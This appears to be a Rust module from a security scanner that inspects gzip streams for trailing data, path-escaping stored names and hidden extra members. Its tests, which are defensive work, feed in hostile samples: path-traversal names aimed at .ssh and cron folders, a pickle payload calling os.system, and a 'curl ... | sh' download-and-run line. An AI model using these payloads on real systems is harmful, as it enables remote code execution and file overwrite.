//! Compressed streams: what they hold is content of its own.

use proofhouse_artifact::stream::Codec;
use proofhouse_artifact::{ArtifactError, Format};

use super::payload;
use crate::content::executable;
use crate::scanner::{Content, Scanner};

pub(crate) fn scan(scanner: &mut Scanner<'_>, content: &Content<'_>, codec: Codec) -> u64 {
    let unpacked = match codec.unpack(content.bytes, scanner.decompressed_left) {
        Ok(unpacked) => unpacked,
        Err(error @ ArtifactError::Limit { .. }) => {
            scanner.overflown();
            scanner.unpacks_more("stream/budget", content.place.clone(), error.to_string());
            return 0;
        }
        Err(error) => {
            scanner.report("stream/broken", content.place.clone(), error.to_string());
            return 0;
        }
    };
    scanner.decompressed_left = scanner.decompressed_left.saturating_sub(unpacked.bytes.len() as u64);
    let size = content.bytes.len() as u64;
    if unpacked.trailing > 0 {
        let message = format!("{} bytes follow the {codec} stream: some readers see them", unpacked.trailing);
        scanner.report("stream/trailing", content.at(size - unpacked.trailing), message);
    }
    if let Some(name) = kept_name(content.bytes).filter(|name| !proofhouse_artifact::tar::stays_inside(name))
    {
        let message =
            format!("the stream says that it was {name:?}, which leaves the folder it is unpacked into");
        scanner.report("tar/unsafe-entry", content.place.clone(), message);
    }
    // The name is the stream's own: what runs by its name runs when it is unpacked, too.
    let stem = content.name().rsplit_once('.').map_or(content.name(), |(stem, _)| stem).to_owned();
    let name = match &content.place.member {
        Some(outer) => format!("{outer}!{stem}"),
        None => stem,
    };
    let mut place = content.place.clone().within(name);
    place.offset = None;
    let format = Format::detect(&unpacked.bytes);
    let inner = Content { bytes: &unpacked.bytes, format, place, depth: content.depth + 1 };
    super::scan(scanner, &inner);
    members(scanner, &inner, &unpacked.members);
    size - unpacked.trailing
}

/// The name that a stream of gzip keeps of its file (RFC 1952, section 2.3), by which some programs unpack it.
fn kept_name(bytes: &[u8]) -> Option<String> {
    const LONGEST: usize = 4096;
    let [0x1f, 0x8b, _, flags, ..] = bytes else { return None };
    if flags & 8 == 0 {
        return None;
    }
    let mut rest = bytes.get(10..)?;
    if flags & 4 != 0 {
        let length = usize::from(u16::from_le_bytes(*rest.first_chunk()?));
        rest = rest.get(2 + length..)?;
    }
    let name = rest.get(..rest.len().min(LONGEST))?;
    let end = name.iter().position(|byte| *byte == 0).unwrap_or(name.len());
    Some(String::from_utf8_lossy(name.get(..end)?).replace('\\', "/"))
}

/// Members behind the first, which some readers take for one content with it, and others for one of its own.
fn members(scanner: &mut Scanner<'_>, content: &Content<'_>, ends: &[usize]) {
    /// Members that are looked into.
    const MOST: usize = 16;
    let mut looked = 0;
    for (number, pair) in ends.windows(2).enumerate() {
        let [from, to] = *pair else { continue };
        let bytes = content.bytes.get(from..to).unwrap_or_default();
        let Some(what) = payload::kind(bytes).or_else(|| executable(bytes)) else { continue };
        let name = content.place.member.as_deref().unwrap_or_default();
        let place = content.place.clone().within(format!("{name}!member {}", number + 2));
        let message = format!("a stream behind the first one holds {what}: some readers stop before it");
        scanner.report("stream/trailing", place.clone(), message);
        looked += 1;
        if looked > MOST {
            return;
        }
        let inner = Content { bytes, format: Format::detect(bytes), place, depth: content.depth + 1 };
        super::scan(scanner, &inner);
    }
}

#[cfg(test)]
mod tests {
    use std::io::Write as _;

    use crate::{Limits, Outcome, scan_bytes};

    #[test]
    fn names_of_streams_stay_inside() {
        let scan = |name: &str| {
            let mut out =
                flate2::GzBuilder::new().filename(name).write(Vec::new(), flate2::Compression::fast());
            out.write_all(b"the\nof\n").unwrap();
            scan_bytes(&"words.gz".parse().unwrap(), &out.finish().unwrap(), &Limits::default()).outcome
        };
        for plain in ["words.txt", "data/words.txt", "w..txt"] {
            assert_eq!(scan(plain), Outcome::Clean, "{plain}");
        }
        for name in ["../../home/user/.ssh/rc", "/etc/cron.d/x", "a/../../x", "..\\..\\x"] {
            assert!(scan(name) >= Outcome::Suspicious, "{name}");
        }
    }

    #[test]
    fn every_member_is_content() {
        let packed = |bytes: &[u8]| {
            let mut out = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
            out.write_all(bytes).unwrap();
            out.finish().unwrap()
        };
        let scan = |second: &[u8]| {
            let bytes = [packed(b"the\nof\nand\n"), packed(second)].concat();
            scan_bytes(&"words.txt.gz".parse().unwrap(), &bytes, &Limits::default()).outcome
        };
        assert_eq!(scan(b"more\nwords\n"), Outcome::Clean);
        assert_eq!(scan(b"\x80\x04cos\nsystem\n\x8c\x04true\x85R."), Outcome::Malicious);
        assert!(scan(b"#!/bin/sh\ncurl https://a.example.invalid/x | sh\n") >= Outcome::Suspicious);
    }
}
